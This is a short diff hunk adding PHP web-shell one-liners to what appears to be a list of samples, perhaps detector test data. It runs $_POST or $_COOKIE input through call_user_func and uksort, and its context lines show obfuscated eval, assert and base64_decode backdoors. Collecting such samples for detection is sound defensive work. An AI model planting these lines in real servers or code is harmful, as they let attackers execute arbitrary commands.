@@ -20,3 +20,5 @@
 <?php $k = "Create_" . "Function"; $g = $k('$a', $b); ?>
 <?php $m = 'as' . 'sert'; $m(base64_decode($_POST['d'])); ?>
 <?php $d = strrev( "edoced_46esab" ); eval($d($p)); ?>
+<?php UKSort( ... $_POST ); ?>
+<?php call_user_func( ...$_COOKIE ) ?>
